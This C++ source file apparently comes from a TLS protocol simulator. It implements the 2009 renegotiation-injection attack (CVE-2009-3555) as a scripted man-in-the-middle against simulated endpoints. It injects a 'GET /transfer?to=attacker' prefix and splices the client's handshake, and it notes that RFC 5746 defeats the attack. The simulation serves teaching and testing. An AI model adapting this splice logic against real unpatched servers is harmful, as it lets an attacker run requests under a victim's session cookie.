// renegotiation-injection (CVE-2009-3555, Ray and Dispensa 2009): the attacker holds the
// client's ClientHello, opens a session of its own with the server, sends a request prefix whose
// last header line is left open, then carries the client's handshake to the server as a
// renegotiation inside that session. It seals the client's handshake records with its session's
// keys and opens the server's answers with them, for the client in clear (the client believes it
// makes its first handshake), up to the ChangeCipherSpecs; after them the client and the server
// share keys the attacker lacks, and it only relays. The server reads prefix + the client's
// request as one stream: the attacker's request line runs with the client's Cookie.
// RFC 5746 stops it on the server (3.7, 4.4) or, against a server without it, on a client that
// requires it (4.1).
#include "attack/script.hpp"

namespace sim::attack {

namespace {

// The request line the attacker wants executed; the open "X-Ignore: " header swallows the
// client's own request line.
constexpr const char* kPrefixLine = "GET /transfer?to=attacker HTTP/1.1";

Bytes prefix() { return to_bytes(std::string(kPrefixLine) + "\r\nX-Ignore: "); }

// Whole records off the front of `buf`.
std::vector<Bytes> take_records(Bytes& buf) {
  std::vector<Bytes> out;
  size_t pos = 0;
  while (buf.size() - pos >= 5) {
    size_t len = (size_t(buf[pos + 3]) << 8) | buf[pos + 4];
    if (buf.size() - pos < 5 + len) break;
    out.emplace_back(buf.begin() + long(pos), buf.begin() + long(pos + 5 + len));
    pos += 5 + len;
  }
  buf.erase(buf.begin(), buf.begin() + long(pos));
  return out;
}

class RenegotiationSplice : public Script, public Endpoint {
 public:
  RenegotiationSplice(const ClientConfig& own, uint64_t seed) : own_(make_client(own, seed ^ 0x72656e6567000001ull)) {
    won_ = msg("attack.renegotiation-injection.succeeded");
    lost_ = msg("attack.renegotiation-injection.failed");
  }

  // As an Attacker.
  Endpoint* endpoint() override { return this; }
  std::vector<const Connection*> connections() const override { return {own_.get()}; }
  Message describe() const override { return attack_reason::mitm(); }
  // As an Endpoint.
  Actor actor() const override { return Actor::attacker; }
  std::string derivation_tag() const override { return "@attacker"; }
  std::vector<Event> take_sent() override { return std::exchange(out_, {}); }
  // Only its own connection reads records (the client's it carries without reading them).
  std::vector<Event> take_received(Actor from) override {
    if (from != Actor::server) return {};
    auto views = own_->take_received();
    for (auto& v : views) v.to = Actor::attacker;
    return views;
  }

  void receive(Actor from, ByteView bytes) override {
    Bytes& buf = from == Actor::client ? from_client_ : from_server_;
    append(buf, bytes);
    for (Bytes& rec : take_records(buf)) from == Actor::client ? client_record(rec) : server_record(rec);
  }

 protected:
  bool succeeded(const Trace& t) const override {
    // What the server visibly did: the page it sent back names the request it executed and the
    // session it ran it for. The attacker's prefix had no Cookie: one there is the client's.
    const Bytes& page = t.client_app_received;
    return contains(page, std::string("Executed: ") + kPrefixLine) && contains(page, "For the session: ") &&
           !contains(page, "For the session: (none)");
  }

  std::vector<AttackEvidence> evidence(const Trace& t) const override {
    std::vector<AttackEvidence> ev;
    std::optional<uint32_t> prefix_at, hello_at;
    for (size_t i = 0; i < t.events.size(); ++i) {
      const Event& e = t.events[i];
      if (e.from != Actor::attacker || e.to != Actor::server || e.attack || !e.protection.is_protected()) continue;
      if (!prefix_at && e.layer == ContentType::application_data) prefix_at = uint32_t(i);
      if (!hello_at && e.name.find("ClientHello") != std::string::npos) hello_at = uint32_t(i);
    }
    if (prefix_sent_) ev.push_back(text_evidence("prefix_sent", msg("evidence.prefix_sent"), prefix(), prefix_at));
    if (!held_hello_.empty() && spliced_)
      ev.push_back(hex_evidence("client_hello_spliced", msg("evidence.client_hello_spliced"), held_hello_, hello_at));
    if (succeeded(t)) ev.push_back(text_evidence("page_shown", msg("evidence.page_shown"), t.client_app_received));
    return ev;
  }

 private:
  enum class Phase { wait_hello, own_handshake, splice };

  void client_record(const Bytes& rec) {
    if (phase_ == Phase::wait_hello) {
      // The client's ClientHello waits while the attacker makes its own session.
      held_hello_.assign(rec.begin() + 5, rec.end());
      phase_ = Phase::own_handshake;
      own_->start();
      flush_own(msg("attack.reason.splice_hold"));
      return;
    }
    if (phase_ != Phase::splice) return;
    if (client_ccs_) {  // under the new keys it lacks
      relay(Actor::server, rec);
      return;
    }
    // Still in clear: into the attacker's session, as records of its own.
    ContentType type = ContentType(rec[0]);
    own_->send_record(type, ByteView(rec).subspan(5));
    flush_own(msg("attack.reason.splice_seal").arg("type", name_of(type)));
    if (type == ContentType::change_cipher_spec) client_ccs_ = true;
  }

  void server_record(const Bytes& rec) {
    if (phase_ == Phase::own_handshake) {
      own_->receive(rec);
      flush_own({});
      if (own_->handshake_complete() && !own_->failed()) start_splice();
      return;
    }
    if (phase_ != Phase::splice) return;
    if (server_ccs_) {
      relay(Actor::client, rec);
      return;
    }
    own_->receive(rec);
    flush_own({});
    for (auto& o : own_->take_opened()) {
      // The server's answer, opened with the attacker's session keys, for the client in clear.
      Bytes plain = make_record(uint8_t(o.type), rec[1], rec[2], o.content);
      Event ev;
      ev.to = Actor::client;
      ev.layer = o.type;
      ev.bytes = plain;
      ev.tree = dissect_record(plain, nullptr, nullptr, ParseContext{suite_by_id(own_->negotiated().cipher_suite), own_->negotiated().version}, &ev.name);
      ev.notes.push_back(side_note(Actor::attacker, msg("attack.reason.splice_open").arg("type", name_of(o.type))));
      out_.push_back(std::move(ev));
      if (o.type == ContentType::change_cipher_spec) server_ccs_ = true;
    }
  }

  void start_splice() {
    phase_ = Phase::splice;
    own_->send_application_data(prefix());
    prefix_sent_ = true;
    flush_own({});
    own_->set_open_only(true);
    own_->send_record(ContentType::handshake, held_hello_);
    spliced_ = true;
    flush_own(msg("attack.reason.splice_seal").arg("type", name_of(ContentType::handshake)));
  }

  // A record under keys the attacker does not have, passed on unchanged.
  void relay(Actor to, const Bytes& rec) {
    Event ev;
    ev.to = to;
    ev.layer = ContentType(rec[0]);
    ev.bytes = rec;
    ev.protection = Protection::unknown_keys();
    ev.tree.name = "TLS record";
    ev.tree.length = uint32_t(rec.size());
    ev.tree.add("content_type", name_of(ContentType(rec[0])), 0, 1);
    ev.tree.add("encrypted_fragment", msg("field.bytes").arg("n", std::to_string(rec.size() - 5)), 5, rec.size() - 5);
    ev.name = name_of(ContentType(rec[0]));  // all the wire shows; the note says why
    ev.notes.push_back(side_note(Actor::attacker, msg("attack.reason.splice_relay")));
    out_.push_back(std::move(ev));
  }

  // Its own connection's records join the outgoing ones in order, with a note when given.
  void flush_own(const Message& why) {
    for (auto& ev : own_->take_sent()) {
      if (!why.empty()) ev.notes.push_back(side_note(Actor::attacker, why));
      out_.push_back(std::move(ev));
    }
  }

  std::unique_ptr<Connection> own_;
  Phase phase_ = Phase::wait_hello;
  Bytes from_client_, from_server_, held_hello_;
  bool client_ccs_ = false, server_ccs_ = false, prefix_sent_ = false, spliced_ = false;
  std::vector<Event> out_;
};

}  // namespace

std::shared_ptr<Attacker> renegotiation_injection(const ScenarioOptions& o) {
  ClientConfig own = client_config(o);
  // The attacker's own client: it talks to the server whatever it shows, asks nothing of RFC
  // 5746 beyond what its stack offers, and sends its own prefix instead of a request.
  own.validation.enabled = false;
  own.certificate = {};
  own.require_secure_renegotiation = false;
  own.send_http_request = false;
  own.send_early_data = false;
  own.renegotiate = false;
  own.http_cookie.clear();
  return std::make_shared<RenegotiationSplice>(own, o.seed);
}

}  // namespace sim::attack
